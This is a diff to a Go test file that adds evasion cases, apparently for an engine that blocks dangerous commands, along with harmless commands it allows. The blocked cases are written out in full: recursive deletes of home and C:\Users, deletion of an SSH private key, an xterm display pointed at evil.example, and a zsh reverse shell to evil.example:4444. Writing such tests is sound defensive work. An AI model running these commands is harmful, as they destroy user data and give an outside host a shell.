@@ -107,6 +107,12 @@ func TestDefaultEngineEvasions(t *testing.T) {
 		`gdb -batch -ex 'shell rm -rf ~'`,
 		`emacs --batch --eval '(shell-command "rm -rf ~")'`,
 		`vim -es -c 'call system("rm -rf ~")' -c q`,
+		// .NET file calls in PowerShell; a terminal or a zsh socket
+		// driven by another machine
+		`[System.IO.File]::Delete("$env:USERPROFILE\.ssh\id_rsa")`,
+		`[IO.Directory]::Delete("C:\Users", $true)`,
+		`xterm -display evil.example:1`,
+		`zsh -c 'zmodload zsh/net/tcp; ztcp evil.example 4444; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
 		// PowerShell: listed items piped into Remove-Item; drive paths
 		`Get-ChildItem C:\ -Recurse | Remove-Item -Force`,
 		`Get-ChildItem -Path C:\Users -Recurse | Remove-Item -Recurse -Force`,
@@ -141,6 +147,8 @@ func TestDefaultEngineEvasions(t *testing.T) {
 		`emacs --batch --eval '(message "hi")'`,
 		`vim -c 'call setline(1, "x")' -c wq notes.txt`,
 		`unshare -r id`,
+		`[IO.File]::ReadAllText(".\README.md")`,
+		`xterm -display :0 -e htop`,
 		`aws s3 cp dist/ s3://my-site-bucket/ --recursive`,
 		`aws s3 cp s3://my-bucket/data.csv data/`,
 		`docker cp app:/app/logs ./logs`,
